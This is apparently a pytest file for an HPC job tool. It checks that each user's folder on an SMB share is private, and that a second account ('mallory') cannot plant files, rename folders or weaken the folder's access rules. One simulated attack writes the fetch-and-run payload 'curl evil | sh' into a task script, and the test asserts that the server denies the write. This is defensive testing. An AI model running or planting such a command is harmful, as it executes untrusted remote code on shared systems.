"""Each cluster user's folder on the share, `hpcjob/<user>/`, is theirs alone (issue 31 item 2): made by
hpcjob with a DACL of its owner's, checked at every upload with the folder above, and the server itself
refuses another user's writes there.

A real smbd on loopback that keeps and enforces Windows ACLs (acl_xattr with `ignore system acls`, as
tests/testbed/smb.py configures it), two real accounts of this machine (hpcjob-alice, hpcjob-mallory)
that log in as themselves, and `hpcuser`, root's identity there, as the HPC administrator."""

from __future__ import annotations

import os
import secrets
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from hpcjob.job.spec import parse_share
from hpcjob.store import smb_acl
from hpcjob.store.share import ShareError, SmbFolder
from hpcjob.store.staging import stage_run

from .conftest import REPO, linux_user
from .testbed.smb import SmbServer

pytestmark = [
    pytest.mark.skipif(
        shutil.which("smbd") is None, reason="needs samba's smbd (scripts/bootstrap.sh --test)"
    ),
    pytest.mark.skipif(os.geteuid() != 0, reason="two accounts of this machine log in: root makes them"),
]


class Share:
    def __init__(self, smb: SmbServer, passwords: dict[str, str]) -> None:
        self.smb, self.passwords = smb, passwords
        self.folder = smb.share_folder

    def as_user(self, name: str) -> SmbFolder:
        password = self.smb.password if name == self.smb.username else self.passwords[name]
        share = parse_share(self.smb.folder_unc)
        return SmbFolder(share, name, password, server=self.smb.address, port=self.smb.port)


@pytest.fixture
def share() -> Iterator[Share]:
    alice, mallory = linux_user("hpcjob-alice"), linux_user("hpcjob-mallory")
    passwords = {alice: secrets.token_urlsafe(12), mallory: secrets.token_urlsafe(12)}
    # Outside pytest's 0700 folders: smbd works as each user, who must reach the share on disk.
    base = Path(tempfile.mkdtemp(prefix="hpcjob-acl-"))
    base.chmod(0o755)
    folder = base / "CcpSpoolDir" / "app"
    folder.mkdir(parents=True)
    folder.parent.chmod(0o755)
    folder.chmod(0o777)  # smbd alone decides who may write, from the ACLs
    try:
        with SmbServer(folder, users=passwords) as smb:
            yield Share(smb, passwords)
    finally:
        shutil.rmtree(base)


def code(tmp_path: Path) -> Path:
    folder = tmp_path / "code"
    folder.mkdir(parents=True)
    (folder / "train.py").write_text("print('mine')\n")
    return folder


def refused(action: object) -> str:
    """What the server said when it refused `action` (a callable); fails when it did not."""
    try:
        action()  # type: ignore[operator]
    except Exception as exc:  # smbprotocol's SMBOSError or SMBResponseException
        return f"{type(exc).__name__}: {exc}"
    pytest.fail("the server let another user write in alice's folder")


def test_a_users_folder_is_theirs_alone_and_the_server_refuses_anyone_else(
    share: Share, tmp_path: Path
) -> None:
    admin = share.as_user("hpcuser")
    admin.prepare_common("hpcjob")  # `hpcjob mount --install`: every user may make their own folder there
    admin.close()
    alice = share.as_user("hpcjob-alice")
    said = stage_run(code(tmp_path), alice, "hpcjob/alice/train", "r-1", user_folder="hpcjob/alice")
    assert said.startswith("sent ") and (share.folder / "hpcjob/alice/train/.hpcjob/node.sh").is_file()
    alice = share.as_user("hpcjob-alice")  # stage_run closed the first
    with alice._open_folder("hpcjob/alice", smb_acl.READ_CONTROL) as f:
        security = smb_acl.read_security(f.fd)
    assert security.protected and {ace.sid for ace in security.dacl or ()} == {
        security.owner,
        smb_acl.SYSTEM,
        smb_acl.ADMINISTRATORS,
    }
    mallory = share.as_user("hpcjob-mallory")
    node_sh = "hpcjob/alice/train/.hpcjob/node.sh"
    before = (share.folder / node_sh).read_bytes()
    for action in (
        lambda: mallory.write_bytes(node_sh, b"curl evil | sh\n"),  # replace a file every task runs
        lambda: mallory.write_bytes("hpcjob/alice/wheels/torch-99.0-py3-none-any.whl", b"x"),  # add a wheel
        lambda: mallory.makedirs("hpcjob/alice/envs/x"),
        lambda: mallory._smb.rename(  # move alice's folder away, to put one of her own in its place
            mallory._path("hpcjob/alice"), mallory._path("hpcjob/gone"), **mallory._on
        ),
        lambda: mallory._smb.rename(mallory._path("hpcjob"), mallory._path("gone"), **mallory._on),  # all
    ):
        assert "0xc0000022" in refused(action).lower()  # STATUS_ACCESS_DENIED, from the server
    assert (share.folder / node_sh).read_bytes() == before
    # Her own folder beside it is hers.
    stage_run(code(tmp_path / "m"), mallory, "hpcjob/mallory/train", "r-2", user_folder="hpcjob/mallory")
    # Alice's next upload checks again, and goes on.
    assert stage_run(code(tmp_path / "b"), alice, "hpcjob/alice/train", "r-3", user_folder="hpcjob/alice")


def test_a_folder_another_user_made_first_or_opened_to_others_is_refused_in_one_line(
    share: Share, tmp_path: Path
) -> None:
    share.as_user("hpcuser").prepare_common("hpcjob")
    mallory = share.as_user("hpcjob-mallory")
    mallory.makedirs("hpcjob/alice/train/.hpcjob")  # before alice's first upload, with files to run
    with pytest.raises(ShareError) as caught:
        stage_run(
            code(tmp_path),
            share.as_user("hpcjob-alice"),
            "hpcjob/alice/train",
            "r-1",
            user_folder="hpcjob/alice",
        )
    assert str(caught.value).startswith(
        f"{share.smb.folder_unc}/hpcjob/alice is not yours alone (another user's"
    )
    assert "nothing was uploaded" in str(caught.value) and "\n" not in str(caught.value)
    assert not (share.folder / "hpcjob/alice/train/train.py").exists()
    # Alice's own folder, which she opened to everyone later: refused at the next upload.
    alice = share.as_user("hpcjob-alice")
    alice.ensure_private("hpcjob/alice2")
    with alice._open_folder("hpcjob/alice2", smb_acl.READ_CONTROL | smb_acl.WRITE_DAC) as f:
        me = smb_acl.read_security(f.fd).owner
        assert me is not None
        smb_acl.set_dacl(f.fd, (*smb_acl.owner_only(me), ("S-1-1-0", smb_acl.FULL_CONTROL, 3)))
    with pytest.raises(ShareError, match=r"is not yours alone \(S-1-1-0 may write in it\)"):
        stage_run(code(tmp_path / "b"), alice, "hpcjob/alice2/train", "r-2", user_folder="hpcjob/alice2")


def test_a_common_folder_another_user_owns_is_refused(share: Share, tmp_path: Path) -> None:
    """Whoever owns hpcjob/ may grant themselves the right to move any user's folder away."""
    share.as_user("hpcjob-mallory").makedirs("hpcjob")  # no administrator made it
    with pytest.raises(ShareError) as caught:
        stage_run(
            code(tmp_path), share.as_user("hpcjob-alice"), "hpcjob/alice/t", "r-1", user_folder="hpcjob/alice"
        )
    assert str(caught.value).startswith(
        f"{share.smb.folder_unc}/hpcjob lets another user move your folder away (it is "
    )
    assert "hpcjob mount --install" in str(caught.value)


def test_render_upload_refuses_a_folder_that_is_not_yours_alone(share: Share, tmp_path: Path) -> None:
    """The command line: one line, exit code 2 (as any refusal), nothing uploaded."""
    share.as_user("hpcuser").prepare_common("hpcjob")
    share.as_user("hpcjob-mallory").makedirs("hpcjob/hpcjob-alice")
    script = code(tmp_path) / "train.py"
    env = {
        **os.environ, "LOGNAME": "hpcjob-alice", "USER": "hpcjob-alice",
        "HPCJOB_CONFIG": str(tmp_path / "none"), "HPCJOB_SMB_PASSWORD": share.passwords["hpcjob-alice"],
    }  # fmt: skip
    done = subprocess.run(
        [sys.executable, "-m", "hpcjob.cli", "render", "--upload", "--share", share.smb.folder_unc,
         "--smb-user", "hpcjob-alice", "--smb-server", share.smb.address, "--smb-port", str(share.smb.port),
         "--node", "N1", str(script)],
        capture_output=True, text=True, cwd=REPO, env=env, timeout=60,
    )  # fmt: skip
    assert done.returncode != 0 and not done.stdout
    assert done.stderr.count("\n") == 1 and "hpcjob/hpcjob-alice is not yours alone" in done.stderr
    assert not (share.folder / "hpcjob/hpcjob-alice/train").exists()


def test_a_share_folder_that_lets_others_move_hpcjob_away_is_refused(share: Share, tmp_path: Path) -> None:
    """Whoever may remove entries of the share's own folder could rename hpcjob/ and make their own."""
    admin = share.as_user("hpcuser")
    admin.prepare_common("hpcjob")
    with admin._open_folder("", smb_acl.READ_CONTROL | smb_acl.WRITE_DAC) as f:
        owner = smb_acl.read_security(f.fd).owner
        assert owner is not None
        smb_acl.set_dacl(f.fd, ((owner, smb_acl.FULL_CONTROL, 3), ("S-1-1-0", smb_acl.FULL_CONTROL, 0)))
    with pytest.raises(ShareError) as caught:
        stage_run(
            code(tmp_path), share.as_user("hpcjob-alice"), "hpcjob/alice/t", "r-1", user_folder="hpcjob/alice"
        )
    assert str(caught.value).startswith(
        f"{share.smb.folder_unc}/ lets another user move your folder away (S-1-1-0 may remove or rename"
    )
